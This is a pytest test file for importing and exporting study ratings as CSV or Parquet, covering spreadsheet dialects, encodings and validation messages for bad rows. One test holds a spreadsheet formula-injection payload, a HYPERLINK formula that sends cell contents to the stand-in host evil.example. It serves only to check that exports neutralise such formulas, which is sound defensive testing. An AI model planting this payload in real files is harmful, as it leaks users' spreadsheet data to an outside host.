"""Ratings out and in: nothing changes on the way, and every bad row is told at once."""

import csv
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest

from studykit.clips.cells import CellRow, read_cells, rewrite
from studykit.errors import MissingPackageError, StudyError
from studykit.ratings import RATING_COLUMNS
from studykit.ratings.exchange import BadRowsError, export_ratings, import_ratings
from studykit.ratings.simulate import simulate_into, simulate_ratings
from studykit.ratings.store import Store, open_store
from studykit.report.blocks import Table
from studykit.study.file import Study, load_study

HEADER = "rater,cell,criterion,value"


@pytest.fixture
def study(small_study: Path) -> Study:
    return load_study(small_study)


@pytest.fixture
def store(tmp_path: Path) -> Store:
    with open_store(tmp_path / "ratings.sqlite") as opened:
        yield opened


@pytest.fixture
def written(tmp_path: Path) -> Callable[..., Path]:
    def write(*lines: str, encoding: str = "utf-8") -> Path:
        path = tmp_path / "collected.csv"
        path.write_bytes("\n".join([*lines, ""]).encode(encoding))
        return path

    return write


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_what_is_exported_comes_back_unchanged(
    study: Study, store: Store, tmp_path: Path, suffix: str
) -> None:
    simulate_into(store, study, 6, seed=1)
    ratings = store.ratings(study.name)
    assert {"gold", "reference", "repeat", "training"} <= set(ratings["role"])
    path = export_ratings(ratings, tmp_path / f"ratings{suffix}")
    with open_store(tmp_path / "other.sqlite") as other:
        imported = import_ratings(other, study, path)
        pd.testing.assert_frame_equal(other.ratings(study.name), ratings)
    assert imported.bad == ()
    assert len(imported.ratings) == len(ratings)


def test_exported_csv_has_the_ratings_columns_and_whole_numbers(
    study: Study, tmp_path: Path
) -> None:
    table = simulate_ratings(study, 1)
    lines = export_ratings(table, tmp_path / "ratings.csv").read_text().splitlines()
    assert lines[0] == ",".join(RATING_COLUMNS)
    assert len(lines) == len(table) + 1
    again = pd.read_csv(tmp_path / "ratings.csv")
    assert again["value"].dtype == "int64"
    assert again["simulated"].all()
    assert lines[1].split(",")[RATING_COLUMNS.index("answered_at")].endswith("Z")


def test_four_columns_are_enough_and_the_cell_tells_the_rest(
    study: Study, store: Store, written: Callable[..., Path]
) -> None:
    path = written(
        HEADER,
        "r-1a1,anna__talk__copy,jitter,4",
        "r-1a1,anna__talk__copy,structure,2",
        "r-1a1,berta__turn__copy,jitter,5",
        "r-1a1,talk,jitter,5",
        "r-1a1,torn__anna__talk__copy,structure,1",
        "r-2b2,anna__talk__copy,jitter,3",
    )
    before = datetime.now(UTC)
    import_ratings(store, study, path)
    table = store.ratings(study.name)
    assert list(table["value"]) == [4, 2, 5, 5, 1, 3]
    assert list(table["trial"]) == [0, 0, 1, 2, 3, 0]
    assert list(table["role"]) == ["rating"] * 3 + ["reference", "gold", "rating"]
    assert list(table["source_type"]) == ["frontal", "frontal", "side", "", "frontal", "frontal"]
    assert list(table["driving"]) == ["talk", "talk", "turn", "talk", "talk", "talk"]
    assert list(table["method"][:3]) == ["copy"] * 3
    assert not table["simulated"].any()
    assert set(table["task"]) == {"acr"}
    assert table["session"].nunique() == 2
    assert table["seconds"].isna().all()
    assert (table["answered_at"] >= pd.Timestamp(before).floor("s")).all()


def test_a_spreadsheets_csv_is_read_too(
    study: Study, store: Store, written: Callable[..., Path]
) -> None:
    path = written(
        "rater;cell;criterion;value;answered_at;seconds",
        "r-1a1;anna__talk__copy;jitter;4.0;2026-01-31T15:04:05;7.5",
        "r-1a1;anna__turn__copy;jitter;2;2026-01-31T15:04:05+02:00;",
        encoding="utf-8-sig",
    )
    import_ratings(store, study, path)
    table = store.ratings(study.name)
    assert list(table["value"]) == [4, 2]
    assert [moment.hour for moment in table["answered_at"]] == [15, 13]
    assert table["seconds"][0] == 7.5


TABLE = (
    "rater;cell;criterion;value;seconds\n"
    "r-1a1;anna__talk__copy;jitter;4;7.5\n"
    "r-1a1;anna__turn__copy;jitter;2;\n"
)
SPREADSHEETS = {
    "semicolons": TABLE.encode(),
    "a mark of order": b"\xef\xbb\xbf" + TABLE.encode(),
    "a line that names the divider": b"sep=;\r\n" + TABLE.replace("\n", "\r\n").encode(),
    "another that does": b"\xef\xbb\xbfsep=|\n" + TABLE.replace(";", "|").encode(),
    "tabs": TABLE.replace(";", "\t").encode(),
    "UTF-16": TABLE.replace(";", "\t").encode("utf-16"),
    "UTF-16, the other way": b"\xfe\xff" + TABLE.encode("utf-16-be"),
    "decimal commas": TABLE.replace("7.5", "7,5").replace(";4;", ";4,0;").encode(),
    "decimal commas among commas": TABLE.replace("7.5", '"7,5"').replace(";", ",").encode(),
    "empty columns after it": TABLE.replace("\n", ";;\n").encode(),
    "empty rows after it": TABLE.encode() + b";;;;\n\n;;;;\n",
    "quoted columns": (
        "".join(f'"{c}";' for c in TABLE.split("\n")[0].split(";"))[:-1]
        + TABLE[TABLE.index("\n") :]
    ).encode(),
    "spaces around": TABLE.replace(";", " ; ").encode(),
    "old Mac lines": TABLE.replace("\n", "\r").encode(),
}


@pytest.mark.parametrize("content", SPREADSHEETS.values(), ids=SPREADSHEETS)
@pytest.mark.parametrize("suffix", ["csv", "tsv"])
def test_every_spreadsheets_table_is_read(
    study: Study, store: Store, tmp_path: Path, content: bytes, suffix: str
) -> None:
    (tmp_path / f"table.{suffix}").write_bytes(content)
    assert not import_ratings(store, study, tmp_path / f"table.{suffix}").bad
    table = store.ratings(study.name)
    assert list(table["value"]) == [4, 2]
    assert list(table["cell"]) == ["anna__talk__copy", "anna__turn__copy"]
    assert table["seconds"][0] == 7.5 and table["seconds"].isna()[1]


@pytest.mark.parametrize(
    ("lines", "line", "reason"),
    [
        (["sep=;", "rater;cell;criterion;value", "r-1a1;anna__talk__copy;jitter;9"], 3, "value"),
        (["rater;cell;criterion;value;;", "r-1a1;anna__talk__copy;jitter;4;x;"], 2, "more values"),
        ([HEADER, "", "r-1a1,anna__talk__copy,jitter,4.000,5"], 3, "more values"),
        ([HEADER, 'r-1a1,anna__talk__copy,jitter,"1.000,5"'], 2, "value must be a whole"),
    ],
)
def test_a_spreadsheets_bad_row_is_told_with_its_line(
    study: Study, store: Store, written: Callable[..., Path], lines, line, reason
) -> None:
    with pytest.raises(BadRowsError) as refused:
        import_ratings(store, study, written(*lines))
    assert refused.value.rows[0].line == line and reason in refused.value.rows[0].reason


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", "'=1"])
def test_no_text_that_leaves_us_is_a_formula(study: Study, tmp_path: Path, text: str) -> None:
    """In the table of ratings, of cells, of the report: and it comes back as it was."""
    ratings = simulate_ratings(study, 1).head(2)
    for column in ("clip_hash", "session", "other"):
        ratings[column] = text
    export_ratings(ratings, tmp_path / "a.csv")
    row = CellRow(*["a__b__c"] * 6, status="failed", error=text.strip(), note=text.strip())
    rewrite(tmp_path / "cells.csv", [row])
    assert read_cells(tmp_path / "cells.csv")["a__b__c"] == row
    shown = pd.DataFrame({"text": [text], "number": [-0.5]})
    Table("b", "A table", shown, shown).write(tmp_path)
    for name in ("a.csv", "cells.csv", "b.csv"):
        for line in csv.reader((tmp_path / name).read_text(encoding="utf-8").splitlines()):
            for value in line:
                assert not value.lstrip().startswith(("=", "+", "@", "＝", "-2"))
    assert ",-0.5" in (tmp_path / "b.csv").read_text()


@pytest.mark.parametrize("column", ["clip_hash", "study_hash"])
def test_a_hash_that_is_none_is_not_taken(
    study: Study, store: Store, written: Callable[..., Path], column: str
) -> None:
    quoted = FORMULA.replace('"', '""')
    path = written(f"{HEADER},{column}", f'r-1a1,anna__talk__copy,jitter,4,"{quoted}"')
    with pytest.raises(BadRowsError, match=f"{column} must be a hash"):
        import_ratings(store, study, path)


BAD = {
    2: ("r-1a1,anna__talk__copy,jitter,6", "value must be a whole number from 1 to 5"),
    3: ("r-1a1,anna__talk__copy,jitter,3.5", "value must be a whole number"),
    4: ("r-1a1,anna__talk__copy,jitter,", "value must be"),
    5: ("r-1a1,anna__talk__copi,jitter,3", 'did you mean "anna__talk__copy"'),
    6: ("r-1a1,anna__talk__copy,jiter,3", 'did you mean "jitter"'),
    7: (",anna__talk__copy,jitter,3", "no rater"),
    8: ("anna@example.org,anna__talk__copy,jitter,3", "no rater id"),
    10: ("r-1a1,anna__turn__copy,jitter,4", "a duplicate: line 9 is the same"),
    11: ("r-1a1,,jitter,4", "no cell"),
    12: ("r-1a1,anna__talk__copy,,4", "no criterion"),
    13: ("r-1a1,anna__talk__copy,jitter,4,5", "more values"),
}


def test_every_bad_row_is_told_and_nothing_is_imported(
    study: Study, store: Store, written: Callable[..., Path]
) -> None:
    lines = [BAD[n][0] if n in BAD else "r-1a1,anna__turn__copy,jitter,4" for n in range(2, 14)]
    path = written(HEADER, *lines)
    with pytest.raises(BadRowsError, match="11 of 12 rows") as refused:
        import_ratings(store, study, path)
    assert "\n" not in str(refused.value)
    assert [row.line for row in refused.value.rows] == list(BAD)
    for row in refused.value.rows:
        assert BAD[row.line][1] in row.reason
    assert store.ratings(study.name).empty

    imported = import_ratings(store, study, path, skip_bad=True)
    assert [row.line for row in imported.bad] == list(BAD)
    assert len(store.ratings(study.name)) == len(imported.ratings) == 1


@pytest.mark.parametrize(
    ("column", "value", "reason"),
    [
        ("role", "ratings", 'did you mean "rating"'),
        ("task", "dcr", "acr"),
        ("study", "other", 'study "other" is not "small"'),
        ("source", "berta", 'source "berta" is not that of anna__talk__copy'),
        ("other", "anna__turn__copy", "other is for pairs"),
        ("trial", "-1", "trial must be a whole number from 0 to"),
        ("seconds", "soon", "seconds must be a number"),
        ("seconds", "nan", "seconds must be a number"),
        ("answered_at", "yesterday", "answered_at must be a time"),
        ("simulated", "perhaps", "simulated must be true or false"),
        ("expected_low", "0", "expected_low must be a whole number from 1 to 5"),
    ],
)
def test_a_wrong_optional_value_is_told(
    study: Study,
    store: Store,
    written: Callable[..., Path],
    column: str,
    value: str,
    reason: str,
) -> None:
    path = written(f"{HEADER},{column}", f"r-1a1,anna__talk__copy,jitter,4,{value}")
    with pytest.raises(BadRowsError) as refused:
        import_ratings(store, study, path)
    assert reason in refused.value.rows[0].reason


def test_what_the_store_holds_is_not_taken_again(
    study: Study, store: Store, written: Callable[..., Path]
) -> None:
    row = "r-1a1,anna__talk__copy,jitter,4"
    import_ratings(store, study, written(HEADER, row))
    with pytest.raises(BadRowsError, match="the store holds it already"):
        import_ratings(store, study, written(HEADER, row, "r-1a1,anna__turn__copy,jitter,4"))
    import_ratings(store, study, written(HEADER, "r-1a1,anna__turn__copy,jitter,4"))
    assert list(store.ratings(study.name)["trial"]) == [0, 1]


def test_with_trials_a_clip_may_come_again(
    study: Study, store: Store, written: Callable[..., Path]
) -> None:
    rows = [f"r-1a1,anna__talk__copy,jitter,4,{trial},rating" for trial in (0, 5, 5)]
    path = written(f"{HEADER},trial,role", *rows)
    imported = import_ratings(store, study, path, skip_bad=True)
    assert [row.line for row in imported.bad] == [4]
    assert list(store.ratings(study.name)["trial"]) == [0, 5]


def test_a_session_belongs_to_one_study_and_rater(
    study: Study, store: Store, written: Callable[..., Path]
) -> None:
    rows = [f"r-{n}a{n},anna__talk__copy,jitter,4,monday" for n in (1, 2)]
    import_ratings(store, study, written(f"{HEADER},session", *rows))
    assert [session.session for session in store.sessions()] == [
        "small/r-1a1/monday",
        "small/r-2a2/monday",
    ]


def test_pairs_name_both_clips(
    small_study: Path, store: Store, written: Callable[..., Path]
) -> None:
    text = small_study.read_text().replace("[copy]", "[copy, warp]")
    small_study.write_text(text + "ratings: {task: pair}\n")
    study = load_study(small_study)
    path = written(
        f"{HEADER},other",
        "r-1a1,anna__talk__copy,jitter,2,anna__talk__warp",
        "r-1a1,anna__turn__copy,jitter,3,anna__turn__warp",
        "r-1a1,berta__turn__copy,jitter,1,",
    )
    imported = import_ratings(store, study, path, skip_bad=True)
    assert [(row.line, row.reason[:12]) for row in imported.bad] == [
        (3, "value must b"),
        (4, "a pair needs"),
    ]
    assert list(imported.ratings["other"]) == ["anna__talk__warp"]


@pytest.mark.parametrize(
    ("lines", "says"),
    [
        (["rater,cell,criterion,valu", "a,b,c,1"], 'did you mean "value"'),
        (["rater,cell,value", "a,b,1"], "lacks the column criterion"),
        ([], "lacks the column rater"),
        ([HEADER], "holds no rating"),
        ([f"{HEADER},value", "a,b,c,1,1"], "two columns"),
    ],
)
def test_a_file_without_the_columns_or_rows_is_refused(
    study: Study, store: Store, written: Callable[..., Path], lines: list[str], says: str
) -> None:
    with pytest.raises(StudyError, match=says):
        import_ratings(store, study, written(*lines))


def test_files_that_cannot_be_read_are_refused(
    study: Study, store: Store, tmp_path: Path, written: Callable[..., Path]
) -> None:
    with pytest.raises(StudyError, match="no file"):
        import_ratings(store, study, tmp_path / "none.csv")
    with pytest.raises(StudyError, match=r"\.csv or \.parquet"):
        import_ratings(store, study, tmp_path / "ratings.xlsx")
    with pytest.raises(StudyError, match="UTF-8"):
        import_ratings(store, study, written(f"{HEADER},source", "ä,b,c,1,d", encoding="latin-1"))
    (tmp_path / "text.parquet").write_text("no parquet at all")
    with pytest.raises(StudyError, match="no Parquet file"):
        import_ratings(store, study, tmp_path / "text.parquet")


def test_simulated_and_human_ratings_do_not_meet_in_a_store(
    study: Study, store: Store, tmp_path: Path, written: Callable[..., Path]
) -> None:
    human = written(HEADER, "r-1a1,anna__talk__copy,jitter,4")
    simulate_into(store, study, 2)
    with pytest.raises(StudyError, match="holds simulated ratings"):
        import_ratings(store, study, human)
    simulated = export_ratings(store.ratings(study.name), tmp_path / "simulated.csv")
    with open_store(tmp_path / "human.sqlite") as other:
        import_ratings(other, study, human)
        with pytest.raises(StudyError, match="holds human ratings"):
            import_ratings(other, study, simulated)
        mixed = written(
            f"{HEADER},simulated",
            "r-2a2,anna__talk__copy,jitter,4,true",
            "r-3a3,anna__talk__copy,jitter,4,false",
        )
        with pytest.raises(StudyError, match="mixes simulated and human"):
            import_ratings(other, study, mixed)


def test_an_export_that_fails_leaves_nothing(study: Study, tmp_path: Path) -> None:
    table = simulate_ratings(study, 1)
    with pytest.raises(StudyError, match="no format"):
        export_ratings(table, tmp_path / "ratings.xlsx")
    with pytest.raises(StudyError, match="no ratings to export"):
        export_ratings(table[:0], tmp_path / "ratings.csv")
    (tmp_path / "file").touch()
    with pytest.raises(StudyError, match="can't be written"):
        export_ratings(table, tmp_path / "file" / "ratings.csv")
    assert not list(tmp_path.glob("*ratings*"))


def test_without_pyarrow_the_command_that_installs_it_is_named(
    study: Study, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(MissingPackageError, match=r'pip install "pyarrow>='):
        export_ratings(simulate_ratings(study, 1), tmp_path / "ratings.parquet")
    assert not list(tmp_path.glob("*ratings*"))
